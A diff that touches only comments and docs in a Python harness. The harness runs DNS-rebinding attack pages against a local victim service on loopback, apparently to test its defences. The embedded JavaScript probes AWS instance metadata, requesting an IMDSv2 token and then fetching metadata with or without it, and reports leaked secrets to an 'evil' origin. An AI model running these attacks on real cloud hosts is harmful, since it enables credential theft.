@@ -8,7 +8,7 @@ Three pages attack http://127.0.0.1:VICTIM:
 
 Prints one JSON object. Exits with 0 if all pages reported, with 1 if some did not, and with 2 if it could not start, was
 interrupted, or the victim no longer listens.
-A status of 0 does not mean that the victim is safe: check "leaks", "timeouts" and "controls" in the JSON.
+A status of 0 does not prove that the victim is safe: check "leaks", "timeouts" and "controls" in the JSON.
 The outcomes are what the attacker sees ("opaque" does not mean that the request arrived).
 It uses only Python's standard library, one thread, and loopback.
 """
@@ -155,7 +155,7 @@ JS_REBIND = r"""
   await attempt('post', n => viaFetch(tag(C.path, n), {method: 'POST', body: 'x', referrerPolicy: 'no-referrer'}));
   const put = await attempt('put_token', n => viaFetch(tag('/latest/api/token', n), {method: 'PUT', headers: TTL}));
   await attempt('put_token_no_referrer', n => viaFetch(tag('/latest/api/token', n), {method: 'PUT', headers: TTL, mode: 'same-origin', referrerPolicy: 'no-referrer'}));
-  // with the token if it could be read, else without (IMDSv1)
+  // With the token if it could be read, otherwise without a token (IMDSv1).
   const ok = put.outcome === 'read' && put.detail.startsWith('HTTP 200');
   const h = ok ? {'X-aws-ec2-metadata-token': put.read.trim().replace(/[^\x21-\x7e]/g, '').slice(0, 2000)} : {};
   await attempt(ok ? 'metadata_with_token' : 'metadata_without_token', n => viaFetch(tag(META, n), {headers: h, referrerPolicy: 'no-referrer'}));
@@ -229,7 +229,7 @@ class Attack:
                 "reportOrigin": loop if page == "loopback" else evil,
                 "controlUrl": (evil if page == "loopback" else loop) + "/control"}
 
-    # Every connection is a task, so that it can be cancelled at the end.
+    # Every connection is a task, so it can be cancelled at the end.
     def handler(self, fn):
         async def run(reader, writer):
             task = asyncio.current_task()
@@ -510,7 +510,8 @@ def main():
     ap.add_argument("--compact", action="store_true", help="JSON on one line")
     ap.add_argument("--verbose", action="store_true")
     a = ap.parse_args()
-    # Secret texts, one per line. "leaks" lists the attempts that read one. They are not arguments, which others can see.
+    # Secret texts, one per line. "leaks" lists the attempts that read one. They are not arguments, because other users can
+    # see those.
     a.marker = [line.strip() for line in sys.stdin if line.strip()]
 
     async def go():
